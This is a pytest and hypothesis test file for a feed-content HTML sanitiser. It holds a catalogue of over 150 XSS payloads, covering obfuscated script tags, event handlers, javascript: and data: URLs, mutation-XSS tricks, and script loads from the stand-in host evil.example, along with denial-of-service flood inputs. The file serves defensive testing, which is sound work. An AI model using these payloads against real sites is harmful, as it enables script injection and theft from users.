"""Nothing that anyone writes gets past `clean`, or stops it."""

from __future__ import annotations

import time
from unittest.mock import patch

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st
from safe_html import elements, faults

from feedkit.content.clean import clean

BASE = "https://site.example/blog/post/"
ROOT = "https://site.example/blog/"

VECTORS = [
    # Scripts, plainly and in disguise.
    "<script>window.hacked()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=//evil.example/x.js></script>",
    "<script\x00>window.hacked()</script>",
    "<scr\x00ipt>window.hacked()</scr\x00ipt>",
    "<scr<script>ipt>window.hacked()</scr</script>ipt>",
    "<<script>window.hacked();//<</script>",
    "<script>window.hacked()",
    "<script><!--<script>window.hacked()//</script>--></script>",
    "</script><script>window.hacked()</script>",
    "<script type=module>import('//evil.example')</script>",
    "<script src='data:text/javascript,window.hacked()'></script>",
    "<script xlink:href=//evil.example/x.js></script>",
    "<noscript><script>window.hacked()</script></noscript>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.hacked()</x:script>",
    "<script \n>window.hacked()</script \n>",
    "<ScRiPt>window.hacked()</sCrIpT>",
    "<%<script>window.hacked()</script>",
    "<? foo='><script>window.hacked()</script>'>",
    "<! foo='><script>window.hacked()</script>'>",
    "</ foo='><script>window.hacked()</script>'>",
    # Event handlers.
    "<img src=x onerror=window.hacked()>",
    "<img/src=x/onerror=window.hacked()>",
    "<img src=x onerror='window.hacked()'//",
    "<img src='x'onerror=window.hacked()>",
    '<img """><script>window.hacked()</script>">',
    "<img src=x:x onerror\n=\nwindow.hacked()>",
    "<img src=x OnErRoR=window.hacked()>",
    "<img src=x one\x00rror=window.hacked()>",
    "<img src=x onerror&#61;window.hacked()>",
    "<body onload=window.hacked()>",
    "<svg onload=window.hacked()>",
    "<svg/onload=window.hacked()//",
    "<details open ontoggle=window.hacked()>",
    "<video src=x onerror=window.hacked()></video>",
    "<video><source onerror=window.hacked()></video>",
    "<audio src onloadstart=window.hacked()>",
    "<a onmouseover=window.hacked()>x</a>",
    "<p onclick=window.hacked()>x</p>",
    "<div onpointerenter=window.hacked()>x</div>",
    "<b onbeforescriptexecute=window.hacked()>x</b>",
    "<input autofocus onfocus=window.hacked()>",
    "<select autofocus onfocus=window.hacked()>",
    "<textarea autofocus onfocus=window.hacked()>",
    "<keygen autofocus onfocus=window.hacked()>",
    "<marquee onstart=window.hacked()>x</marquee>",
    "<table background='javascript:window.hacked()'><td>x",
    "<a href=x onclick='window.hacked()'/onclick=window.hacked()>x</a>",
    "<img src=`x`onerror=window.hacked()>",
    "<a foo='bar\\' onclick=window.hacked() b='>x</a>",
    # Addresses that run.
    "<a href=javascript:window.hacked()>x</a>",
    "<a href='JaVaScRiPt:window.hacked()'>x</a>",
    "<a href=' javascript:window.hacked()'>x</a>",
    "<a href='java\tscript:window.hacked()'>x</a>",
    "<a href='java\nscript:window.hacked()'>x</a>",
    "<a href='java&#10;script:window.hacked()'>x</a>",
    "<a href='java&Tab;script:window.hacked()'>x</a>",
    "<a href='java\x00script:window.hacked()'>x</a>",
    "<a href='&#1;javascript:window.hacked()'>x</a>",
    "<a href='java&#1;script:window.hacked()'>x</a>",
    "<a href='java&#x80;script:window.hacked()'>x</a>",
    "<a href='\x01javascript:window.hacked()'>x</a>",
    "<a href='javascript&colon;window.hacked()'>x</a>",
    "<a href='javascript&#58;window.hacked()'>x</a>",
    "<a href='javascript&#x0003A;window.hacked()'>x</a>",
    "<a href='&#106;avascript:window.hacked()'>x</a>",
    "<a href='&#0000106avascript:window.hacked()'>x</a>",
    "<a href='\u2028javascript:window.hacked()'>x</a>",
    "<a href='javascript://site.example/%0Awindow.hacked()'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='livescript:x'>x</a>",
    "<a href='mocha:x'>x</a>",
    "<a href='data:text/html,<script>window.hacked()</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='view-source:https://site.example'>x</a>",
    "<a href='jar:https://evil.example!/x'>x</a>",
    "<a href='blob:https://site.example/x'>x</a>",
    "<a href='intent://x#Intent;scheme=javascript;end'>x</a>",
    "<a href='feed:javascript:window.hacked()'>x</a>",
    "<a href='http://['>x</a>",
    "<a href='https://user:pass@evil.example:99999999/'>x</a>",
    "<a ping='javascript:window.hacked()' href=x>x</a>",
    "<a xlink:href='javascript:window.hacked()'>x</a>",
    "<img src=javascript:window.hacked()>",
    "<img src='jav&#x0A;ascript:window.hacked();'>",
    "<img dynsrc='javascript:window.hacked()' lowsrc='javascript:window.hacked()'>",
    "<img src='data:image/svg+xml,<svg onload=window.hacked()>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/png;base64,x\" onerror=window.hacked()'>",
    "<img srcset='javascript:window.hacked()'>",
    "<img srcset='data:text/html,x 1x, javascript:window.hacked() 2x'>",
    "<img longdesc='javascript:window.hacked()'>",
    "<img usemap='javascript:window.hacked()'>",
    "<video poster='javascript:window.hacked()'></video>",
    "<video src='javascript:window.hacked()'></video>",
    "<audio src='data:text/html,x'></audio>",
    "<source srcset='javascript:window.hacked()'>",
    "<track src='javascript:window.hacked()'>",
    "<blockquote cite='javascript:window.hacked()'>x</blockquote>",
    "<q cite='javascript:window.hacked()'>x</q>",
    "<del cite='vbscript:x'>x</del>",
    # Frames, plug-ins, forms, and what changes the page.
    "<iframe src='javascript:window.hacked()'></iframe>",
    "<iframe srcdoc='<script>window.hacked()</script>'></iframe>",
    "<iframe src='data:text/html,<script>window.hacked()</script>'></iframe>",
    "<iframe src='https://evil.example/\"><script>window.hacked()</script>'></iframe>",
    "<iframe title='</a><script>window.hacked()</script>' src=//evil.example/x></iframe>",
    "<iframe><script>window.hacked()</script></iframe>",
    "<iframe data-src='javascript:window.hacked()'></iframe>",
    "<frameset><frame src='javascript:window.hacked()'></frameset>",
    "<object data='javascript:window.hacked()'></object>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<object type='text/x-scriptlet' data='//evil.example/x'></object>",
    "<object><param name=src value='javascript:window.hacked()'></object>",
    "<embed src='javascript:window.hacked()'>",
    "<embed src='//evil.example/x.swf' AllowScriptAccess=always>",
    "<applet code=evil archive='//evil.example/x.jar'></applet>",
    "<form action='javascript:window.hacked()'><input type=submit></form>",
    "<button formaction='javascript:window.hacked()'>x</button>",
    "<input type=image src='javascript:window.hacked()'>",
    "<isindex action='javascript:window.hacked()' type=image>",
    "<base href='javascript:window.hacked()//'>",
    "<base href='https://evil.example/'><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hacked()'>",
    "<link rel=stylesheet href='javascript:window.hacked()'>",
    "<link rel=import href='//evil.example/x'>",
    "<bgsound src='javascript:window.hacked()'>",
    "<layer src='//evil.example/x'></layer>",
    "<portal src='//evil.example/x'></portal>",
    "<html manifest='javascript:window.hacked()'>",
    "<?xml-stylesheet href='javascript:window.hacked()'?>",
    "<?import namespace=t implementation='#default#time2'>",
    # Styles.
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:window.hacked())}</style>",
    "<style><img src=</style><img src=x onerror=window.hacked()//>",
    "<p style='background:url(javascript:window.hacked())'>x</p>",
    "<p style='width:expression(window.hacked())'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='x:\\65xpression(window.hacked())'>x</p>",
    "<p class=evil id=evil style='position:fixed;inset:0'>x</p>",
    # What changes its meaning when it is read again (mutation XSS).
    '<noscript><p title="</noscript><img src=x onerror=window.hacked()>">',
    '<svg></p><style><a id="</style><img src=1 onerror=window.hacked()>">',
    "<math></p><style><!--</style><img src=x onerror=window.hacked()>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=window.hacked()&gt;">'
    ),
    (
        "<math><annotation-xml encoding='text/html'><script>window.hacked()</script>"
        "</annotation-xml></math>"
    ),
    (
        "<math><annotation encoding='application/x-tex'><script>window.hacked()</script>"
        "</annotation></math>"
    ),
    "<math alttext='<script>window.hacked()</script>'></math>",
    "<math href='javascript:window.hacked()'>x</math>",
    (
        "<math><maction actiontype='statusline#https://x'"
        " xlink:href='javascript:window.hacked()'>x</maction></math>"
    ),
    "<svg><script>window.hacked()</script></svg>",
    "<svg><script href='//evil.example/x.js'/></svg>",
    "<svg><a xlink:href='javascript:window.hacked()'><text>x</text></a></svg>",
    "<svg><animate onbegin=window.hacked() attributeName=x></svg>",
    "<svg><set attributeName=href to='javascript:window.hacked()'></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hacked()>#x'></svg>",
    "<svg><foreignObject><iframe onload=window.hacked()></foreignObject></svg>",
    "<svg><desc><img src=x onerror=window.hacked()></desc></svg>",
    "<svg><title><img src=x onerror=window.hacked()></title></svg>",
    "<svg><title>&lt;img src=x onerror=window.hacked()&gt;</title></svg>",
    "<svg><![CDATA[><img src=x onerror=window.hacked()>]]></svg>",
    "<svg aria-label='<img src=x onerror=window.hacked()>'></svg>",
    "<svg><p><style><g title='</style><img src=x onerror=window.hacked()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked()>",
    "<template><script>window.hacked()</script></template>",
    "<template><template></template><img src=x onerror=window.hacked()></template>",
    "<textarea><img title='</textarea><img src=x onerror=window.hacked()>'></textarea>",
    "<title><img title='</title><img src=x onerror=window.hacked()>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=window.hacked()>'>",
    "<noembed><p title='</noembed><img src=x onerror=window.hacked()>'>",
    "<noframes><p title='</noframes><img src=x onerror=window.hacked()>'>",
    "<listing>&lt;img src=x onerror=window.hacked()&gt;</listing>",
    "<plaintext><img src=x onerror=window.hacked()>",
    "<select><style></select><img src=x onerror=window.hacked()></style>",
    "<table><style><!--</style><img src=x onerror=window.hacked()>",
    "<!--><img src=x onerror=window.hacked()>-->",
    "<!---><img src=x onerror=window.hacked()>-->",
    "<!-- --!><img src=x onerror=window.hacked()>-->",
    "<!--[if gte IE 4]><script>window.hacked()</script><![endif]-->",
    "<comment><img src='</comment><img src=x onerror=window.hacked()>'></comment>",
    "<p title='&lt;script&gt;window.hacked()&lt;/script&gt;'>x</p>",
    '<a title="\'><img src=x onerror=window.hacked()>">x</a>',
    "<img alt='`><img src=x onerror=window.hacked()>'>",
    "<img data-src='\"><script>window.hacked()</script>' src=blank.gif>",
    "<a class=anchor href='#x'><script>window.hacked()</script></a>",
    "<h1><a href='#x'><img src=x onerror=window.hacked()></a></h1>",
    "\ufeff<script>window.hacked()</script>",
    "+ADw-script+AD4-window.hacked()+ADw-/script+AD4-",
    "\uff1cscript\uff1ewindow.hacked()\uff1c/script\uff1e",
    "&lt;script&gt;window.hacked()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;window.hacked()",
]


def _clean(html: str) -> str:
    return clean(html, base=BASE, root=ROOT)


def test_there_are_many_vectors() -> None:
    """The table is not a handful, and has no doublets."""
    assert len(VECTORS) > 150
    assert len(set(VECTORS)) == len(VECTORS)


@pytest.mark.parametrize("html", VECTORS)
def test_vector(html: str) -> None:
    """Whatever a vector becomes, only what is allowed is left, and it stays when cleaned again."""
    cleaned = _clean(html)
    assert faults(cleaned) == []
    assert _clean(cleaned) == cleaned


@pytest.mark.parametrize("html", VECTORS)
@pytest.mark.parametrize(
    "around", ["<p>{}</p>", "<table><tr><td>{}", "<svg>{}</svg>x", "<a href=y>{}"]
)
def test_vector_inside_others(around: str, html: str) -> None:
    """A vector gains nothing by where it stands."""
    cleaned = _clean(around.format(html))
    assert faults(cleaned) == []
    assert _clean(cleaned) == cleaned


NAMES = [
    "a",
    "b",
    "i",
    "em",
    "strong",
    "code",
    "p",
    "div",
    "span",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "table",
    "tbody",
    "tr",
    "td",
    "th",
    "caption",
    "colgroup",
    "col",
    "blockquote",
    "pre",
    "h1",
    "h2",
    "button",
    "form",
    "select",
    "option",
    "input",
    "textarea",
    "script",
    "style",
    "template",
    "noscript",
    "svg",
    "math",
    "mi",
    "mtext",
    "annotation-xml",
    "foreignObject",
    "desc",
    "title",
    "iframe",
    "object",
    "embed",
    "param",
    "video",
    "source",
    "picture",
    "img",
    "br",
    "hr",
    "details",
    "summary",
    "ruby",
    "rt",
    "rp",
    "nobr",
    "font",
    "center",
    "marquee",
    "frameset",
    "body",
    "html",
    "xmp",
    "plaintext",
    "main",
    "figure",
    "fieldset",
    "x-y",
    "section",
    "menu",
]
ATTRIBUTES = [
    "",
    " href='#x'",
    " href=/y",
    " src=z",
    " srcset='a 1x, b,c 2x'",
    " class='anchor language-x'",
    " id=fn:1",
    ' title="<b>&"',
    " data-src=q",
    " style=a",
    " open",
    " type=checkbox checked",
    " align=right",
    " onclick=x",
    " href=javascript:x",
    " poster='http://a b/'",
    " width=9px",
]
TEXTS = ["x", " ", "\n", "&nbsp;", "&lt;b&gt;", "&#1;", "<", ">", '"', "<!--", "-->", "</", "]]>"]

tags = st.builds(
    lambda end, name, attributes, close: f"<{end}{name}{''.join(attributes)}{close}",
    st.sampled_from(["", "", "/"]),
    st.sampled_from(NAMES),
    st.lists(st.sampled_from(ATTRIBUTES), max_size=2),
    st.sampled_from([">", ">", ">", "/>", " />", ""]),
)
soup = st.lists(tags | st.sampled_from(TEXTS) | st.text(max_size=3), max_size=40).map("".join)


@given(st.text() | soup)
def test_any_text_is_cleaned_once_and_for_all(html: str) -> None:
    """Whatever the text, the result is safe, and cleaning it again changes nothing."""
    cleaned = _clean(html)
    assert faults(cleaned) == []
    assert _clean(cleaned) == cleaned


@given(soup)
def test_ordinary_html_is_what_all_steps_make_of_it(html: str) -> None:
    """Where `clean` sees that nothing is left to do, all that is left out would change nothing."""
    with patch("feedkit.content.clean.may_be_ordinary", return_value=False):
        in_all_steps = _clean(html)
    assert _clean(html) == in_all_steps


@given(st.text() | soup)
def test_trusted_text_is_well_formed(html: str) -> None:
    """What is trusted is not made safe, but it can be parsed again without change."""
    once = clean(html, base=BASE, root=ROOT, trust=True)
    assert len(list(elements(once))) == len(
        list(elements(clean(once, base=BASE, root=ROOT, trust=True)))
    )


@given(soup)
def test_html_parses_without_an_error(html: str) -> None:
    """A strict HTML5 parser finds nothing to mend.

    Except what it calls by a name of its own where `rt` or `li` stands where no author puts it.
    """
    parser = html5lib.HTMLParser(strict=False)
    parser.parseFragment(_clean(html))
    errors = {code for _, code, _ in parser.errors}
    assert errors <= {"XXX-undefined-error", "end-tag-too-early"}


CHARACTERS = [
    "a\ud800b",
    "<a href='\udfff'>x</a>",
    "a\x00b\x08c\x0bd\x1fe\x7ff\x80g\x9fh\ufffei",
    "&#0;&#1;&#8;&#x80;&#x81;&#xD800;&#xFFFE;&#x110000;",
    "<p title='&#2;\x02'>x",
    "a\r\nb\rc\x85d",
]


@pytest.mark.parametrize("html", CHARACTERS)
def test_characters_no_feed_may_hold(html: str) -> None:
    """No lone surrogate and no control character comes out, written plainly or as a reference."""
    cleaned = _clean(html)
    assert not any(c in cleaned for c in map(chr, [*range(9), 11, 12, *range(14, 32)]))
    assert not any(0x7F <= ord(c) <= 0x9F or 0xD800 <= ord(c) <= 0xDFFF for c in cleaned)
    assert _clean(cleaned) == cleaned


def test_directional_characters_stay() -> None:
    """Arabic and Hebrew need them, and what they turn round ends with its paragraph (UAX #9)."""
    assert _clean("<p>a\u202eb\u2066c</p>") == "<p>a\u202eb\u2066c</p>"


N = 100_000
M = 20_000
FLOODS = {
    "quotes": "<blockquote>" * N,
    "quotes, closed": "<blockquote>" * N + "</blockquote>" * N,
    "brackets": "[" * N + "<" * N + "]" * N + ">" * N,
    "divs": "<div>" * M + "x",
    "divs and paragraphs": "<div>" * M + "</p>" * M,
    "lists": "<ul><li>" * M,
    "spans": "<span>" * M,
    "bold": "<b>" * M,
    "bold paragraphs": "".join(f"<b class=x{i}><p>" for i in range(M)),
    "formatting in every paragraph": "<p><b><i><u><s><tt><em><strong><small>" + "<p>x" * M,
    "formatting in every row": "<table><b><i><u><s><tt><em><strong><small>" + "<tr>x" * M,
    "overlapping": "<b><i></b>" * M,
    "links": "<a href=x>" * M,
    "tables": "<table><tr><td>" * M,
    "end tags that end nothing there": "<div><table><tr><td></div>" * M,
    "end tags in comments": "<div><!--</div>-->" * M,
    "end tags in attributes": "<div><p title='</div>'>" * M,
    "attributes": "<a " + " ".join(f"a{i}" for i in range(M)) + ">",
    "open attribute": '<a title="' * M,
    "open tags": "<img " * M,
    "open comments": "<!--" * M,
    "scripts": "<script>" * M,
    "frames": "<iframe src=x></iframe>" * M,
    "open frames": "<iframe src=x>" * M,
    "objects": "<object data=x>" * M,
    "formulas": "<math><annotation encoding=tex>" * M,
    "drawings": "<svg><title>" * M,
    "noscript": "<noscript " * M,
    "pictures": "<img> " * M,
    "candidates": "<img srcset='" + ", " * M + "x'>",
    "styles": "<p style='" + "url(" * M + "'>",
    "placeholders": "<img data-src=x src='" + "blank" * M + "'>",
    "classes": "<a class=" + "class=" * M + ">",
    "references": "&#1;&amp;" * M,
    "ids": "<p id='" + "a-" * M + "'>",
    "players": "<iframe src='https://www.youtube.com/embed/videoseries?"
    + "&list" * M
    + "'></iframe>",
    "letters": "<p title='" + "a" * M * 5 + "'>",
    "changed lines": "<a href=/x>&quot;</a>\n" * M,
    "text in tables": "<table>x</table>" * M,
    "references in a table": "<table>" + "x&amp;" * M,
}


@pytest.mark.slow
@pytest.mark.parametrize("name", FLOODS)
def test_flood(name: str) -> None:
    """Ever so many of anything take time in proportion, and come out safe."""
    started = time.process_time()
    cleaned = _clean(FLOODS[name])
    assert time.process_time() - started < 15  # seconds; some hundred times less where it is fast
    assert len(cleaned) < 20 * len(FLOODS[name])
    assert _clean(cleaned) == cleaned


@pytest.mark.slow
@pytest.mark.parametrize("name", FLOODS)
def test_trusted_flood(name: str) -> None:
    """What is trusted takes no longer."""
    started = time.process_time()
    clean(FLOODS[name], base=BASE, root=ROOT, trust=True)
    assert time.process_time() - started < 15  # seconds


@pytest.mark.slow
@pytest.mark.parametrize("line", ["x ", "a &amp; ", "\u4e2d"])
def test_ten_megabytes_of_one_line(line: str) -> None:
    """A line of ten megabytes is cleaned like any other."""
    html = line * (10_000_000 // len(line))
    started = time.process_time()
    cleaned = _clean(html)
    assert time.process_time() - started < 60  # seconds
    assert cleaned[:1] == _clean(line)[:1]
